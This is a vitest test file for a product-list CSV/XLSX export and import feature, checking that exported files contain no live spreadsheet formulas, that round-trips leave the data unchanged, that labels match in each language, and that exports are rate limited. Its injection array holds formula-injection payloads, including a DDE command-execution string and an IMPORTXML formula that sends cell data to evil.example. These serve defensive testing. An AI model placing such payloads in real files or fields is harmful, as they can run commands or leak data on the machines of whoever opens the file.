import { readFileSync } from 'node:fs'
import { tried } from '@ticarum/contract/testing/tried'
import { categories, sellingUnits } from '@ticarum/contract/values/products'
import { parse } from 'csv-parse/sync'
import { strFromU8, unzipSync } from 'fflate'
import { expect, it, vi } from 'vitest'
import { openDoor } from '../../testing/open-door.ts'
import { codeOfWord, wordOf } from './list-words.ts'
import { readList } from './read-list.ts'

vi.setConfig({ testTimeout: 120_000 }) // it reads and writes many workbooks
const { asPerson, given, owner } = await openDoor()

const commands = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","click")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
]
const disguises = ['', ' ', '\t', '\r\n', '\u00a0', '"', ';', '']
const fullWidth = [
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=\tA1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '"=1+1"',
  ';=1+1',
  ' =1+1',
  '\u00a0=1+1',
]
/** Thirty ways in which a name could become a formula. */
const injections = [
  ...new Set([...commands, ...fullWidth, ...disguises.flatMap((disguise) => [`${disguise}=2+5`, `${disguise}@A1`])]),
].slice(0, 30)

/** A spreadsheet looks at the first character that is not a space. */
const isLive = (cell: string) => /^[\s\u00a0]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n]/.test(cell)

it('an exported list has no formulas, and can be imported unchanged', async () => {
  expect(injections).toHaveLength(30)
  const supplier = await given.supplier()
  const supplierId = supplier.companyId ?? ''
  for (const [n, injection] of injections.entries()) {
    const { id } = await given.product({
      supplierId,
      articleCode: `=${n}+1`,
      name: injection,
      english: `@${injection}`,
    })
    await owner.query('update products set details = $2 where id = $1', [
      id,
      JSON.stringify({ facts: [{ name: `+${n}`, value: injection }] }),
    ])
  }
  const { imports } = await asPerson(supplier)
  const csv = Buffer.from((await imports.exportList({ format: 'csv', language: 'tr' })).base64, 'base64')
  const cells: string[][] = parse(csv, { delimiter: ';', bom: true })
  expect(cells).toHaveLength(31)
  tried('formula', 2 * injections.length) // CSV and XLSX
  expect(cells.flat().filter(isLive)).toEqual([])

  const xlsx = Buffer.from((await imports.exportList({ format: 'xlsx', language: 'tr' })).base64, 'base64')
  const sheets = Object.entries(unzipSync(xlsx)).filter(([name]) => name.includes('worksheets/'))
  expect(sheets.length).toBeGreaterThan(0)
  for (const [, sheet] of sheets) expect(strFromU8(sheet)).not.toMatch(/<f[ >]/)

  for (const file of [csv, xlsx]) {
    const { rows } = readList(file)
    const names = new Map(rows.map(({ cells }) => [cells.articleCode, cells.name]))
    expect(names).toEqual(new Map(injections.map((injection, n) => [`=${n}+1`, injection.trim()])))
  }
})

it('the template is read as an empty list, in every language and format', async () => {
  const { imports } = await asPerson(await given.supplier())
  for (const language of ['en', 'so', 'tr', 'ar'] as const)
    for (const format of ['csv', 'xlsx'] as const) {
      const { base64 } = await imports.template({ format, language })
      expect(() => readList(Buffer.from(base64, 'base64'))).toThrow(expect.objectContaining({ problem: 'empty' }))
    }
})

it('an exported list changes nothing when it is imported again', async () => {
  const supplier = await given.supplier()
  await given.product({ supplierId: supplier.companyId ?? '', articleCode: 'A' })
  const { imports } = await asPerson(supplier)
  for (const language of ['tr', 'en'] as const) {
    const { base64, rows } = await imports.exportList({ format: 'csv', language })
    expect(rows).toBe(1)
    const [row] = readList(Buffer.from(base64, 'base64')).rows
    expect(row?.cells).toMatchObject({
      articleCode: 'A',
      name: language === 'tr' ? 'Pamuklu gömlek' : 'Cotton shirt',
      price: '12.50',
      category: 'fashion',
      country: 'TR',
      city: 'Kayseri',
    })
  }
})

it('categories and units are called as the product’s form calls them, in every language, and read so', () => {
  for (const language of ['en', 'so', 'tr', 'ar'] as const) {
    const form = JSON.parse(
      readFileSync(new URL(`../../../../web/app/locales/${language}/product-form.json`, import.meta.url), 'utf8'),
    )
    for (const [kind, codes] of [
      ['category', categories],
      ['unit', sellingUnits],
    ] as const)
      for (const code of codes) {
        expect(wordOf(kind, code, language)).toBe(form[`${kind}.${code}`])
        expect(codeOfWord(kind, form[`${kind}.${code}`].toLocaleUpperCase(language))).toBe(code)
      }
  }
})

it('is written one at a time for each account, however many are asked for at once', async () => {
  const [supplier, other] = [await given.supplier(), await given.supplier()]
  for (const { companyId } of [supplier, other])
    await given.product({ supplierId: companyId ?? '', articleCode: 'K1', status: 'draft' })
  const [mine, theirs] = [await asPerson(supplier), await asPerson(other)]
  const ask = { format: 'xlsx', language: 'tr' } as const
  const [others, ...many] = await Promise.all([
    theirs.imports.exportList.try(ask),
    ...Array.from({ length: 20 }, () => mine.imports.exportList.try(ask)),
  ])
  expect(others?.ok, 'of another account').toBe(true)
  expect(many.filter(({ ok }) => ok)).toHaveLength(1)
  expect(new Set(many.map((answer) => (answer.ok ? 'OK' : answer.code)))).toEqual(new Set(['OK', 'RATE_LIMITED']))
  expect((await mine.imports.exportList.try(ask)).ok, 'once the first is done').toBe(true)
})
